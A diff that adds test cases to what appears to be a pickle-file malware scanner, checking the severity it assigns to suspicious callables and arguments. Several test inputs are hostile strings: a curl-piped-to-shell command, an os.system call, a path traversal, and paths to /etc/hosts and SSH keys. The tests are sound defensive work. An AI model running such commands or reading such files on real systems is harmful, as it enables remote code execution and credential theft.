@@ -198,4 +198,41 @@ describe("the use of a callable", () => {
     const [told] = await callOf(named("builtins", "ev\0al"), text("1"));
     expect(told?.message).toContain("looks like builtins.eval");
   });
+
+  it.each([
+    ["evil", "work", "x", "medium"],
+    ["evil", "run", "x", "high"],
+    ["evil", "run_later", "x", "high"],
+    ["evil", "overrun", "x", "medium"],
+    ["evil", "Model.load", "x", "high"],
+    ["evil", "Model", "x", "medium"],
+    ["evil", "work", "curl http://x | sh", "critical"],
+    ["evil", "work", "import os; os.system('id')", "critical"],
+    ["evil", "work", "https://x.example", "high"],
+    ["evil", "work", "/etc/hosts", "high"],
+    ["evil", "work", "..\\x", "high"],
+    ["evil", "work", "x/.ssh/id", "high"],
+    ["evil", "work", "10.0.0.1:80", "high"],
+    ["evil", "work", "10.0.0", "medium"],
+    ["sklearn.made_up", "Model", "x", "low"],
+    ["sklearn.made_up", "_Model", "x", "low"],
+    ["sklearn.made_up", "AB", "x", "low"],
+    ["sklearn.made_up", "ABC", "x", "medium"],
+    ["sklearn.made_up", "work", "x", "medium"],
+    ["sklearn.made_up", "save", "x", "high"],
+    ["json", "made_up", "x", "high"],
+  ])("that is a call of %s.%s with %j weighs %s", async (module, name, argument, severity) => {
+    const told = await callOf(named(module, name), text(argument));
+    expect(told.find(({ rule }) => rule === "pickle/unknown-call")?.severity).toBe(severity);
+  });
+
+  it("weighs as much when what tells it lies deep in its arguments", async () => {
+    const within = (depth: number) => pickle(text("/etc/hosts"), ...Array.from({ length: depth }, () => tuple1));
+    const severity = async (depth: number) => (await callOf(named("evil", "work"), within(depth)))[0]?.severity;
+    expect([await severity(0), await severity(3), await severity(4)]).toEqual(["high", "high", "medium"]);
+    const made = pickle(named("collections", "OrderedDict"), text("/etc/hosts"), tuple1, reduce);
+    expect((await callOf(named("evil", "work"), made))[0]?.severity).toBe("high");
+    const object = pickle(named("sklearn.made_up", "Model"), text("/etc/hosts"), tuple1, p.newobj);
+    expect((await callOf(named("evil", "work"), object)).map(({ severity: each }) => each)).toContain("high");
+  });
 });
